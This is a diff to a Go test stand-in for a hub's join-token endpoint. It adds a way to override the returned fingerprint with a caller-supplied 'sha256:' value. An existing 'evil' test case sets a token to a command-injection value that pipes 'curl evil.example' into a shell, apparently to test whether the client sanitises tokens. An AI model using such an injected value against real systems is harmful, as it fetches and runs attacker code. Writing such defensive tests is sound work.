@@ -323,13 +323,16 @@ func (h *standIn) watch(w http.ResponseWriter, r *http.Request) {
 
 func (h *standIn) join(w http.ResponseWriter, r *http.Request) {
 	var q hubapi.JoinTokenRequest
-	if json.NewDecoder(r.Body).Decode(&q) != nil || q.Guide != "line-box" && q.Guide != "evil" {
+	if json.NewDecoder(r.Body).Decode(&q) != nil || q.Guide != "line-box" && q.Guide != "evil" && !strings.HasPrefix(q.Guide, "sha256:") {
 		problem(w, http.StatusNotFound, hubapi.ReasonNotFound, "no guide is named so")
 		return
 	}
 	t := hubapi.JoinTokens{Hub: "https://hub.example:8443", CA: "sha256:" + strings.Repeat("a", 64), Fingerprint: "sha256:" + strings.Repeat("b", 64), Expires: time.Now().Add(time.Hour)}
 	for i := range q.Count {
 		t.Tokens = append(t.Tokens, fmt.Sprintf("token-of-16-bytes-%d", i))
+	}
+	if strings.HasPrefix(q.Guide, "sha256:") { // another root
+		t.Fingerprint = q.Guide
 	}
 	if q.Guide == "evil" {
 		t.Tokens[0] = "aaaaaaaaaaaaaaaa; curl evil.example | sh"
